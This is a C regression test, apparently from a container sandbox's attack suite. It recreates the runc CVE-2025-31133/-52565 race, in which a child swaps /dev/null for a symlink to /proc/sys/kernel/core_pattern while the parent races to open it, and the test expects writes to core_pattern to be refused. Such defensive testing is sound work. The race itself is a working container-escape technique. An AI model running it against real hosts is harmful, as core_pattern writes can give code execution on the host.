#include "tests/attack/attack.h"

/* runc CVE-2025-31133, CVE-2025-52565: the thing masked, or masked with, is swapped for a link while the runtime mounts. The
 * mounts here are made by descriptors below /proc before foreign code lives; what is left is to swap parents around. */
static int attack(void)
{
    pid_t pid = fork();
    if (pid == 0)
        for (;;) {
            rename("/dev/null", "/dev/null2");
            if (symlink("/proc/sys/kernel/core_pattern", "/dev/null") < 0)
                sched_yield();
            unlink("/dev/null");
            rename("/dev/null2", "/dev/null");
        }
    int opened = 0;
    for (int i = 0; i < 20000; i++) {
        int fd = open("/dev/null", O_WRONLY);
        struct stat st;
        if (fd >= 0 && fstat(fd, &st) == 0 && !S_ISCHR(st.st_mode))
            opened++;
        if (fd >= 0)
            close(fd);
    }
    kill(pid, SIGKILL);
    child_status(pid);
    judged("setting-by-race", opened > 0);
    tried_open("/proc/sys/kernel/core_pattern", O_WRONLY);
    return 0;
}

static int twin(void) { return says_ok(symlink("/dev/zero", "/tmp/z") == 0 && open("/tmp/z", O_RDONLY) >= 0); }

ATTACK(.tries = "swap /dev/null for a link into /proc in a race (runc CVE-2025-31133, -52565)", .attack = attack, .twin = twin,
       .bare = "/proc/sys/kernel/core_pattern", .must = { "/proc/sys/kernel/core_pattern refused" });
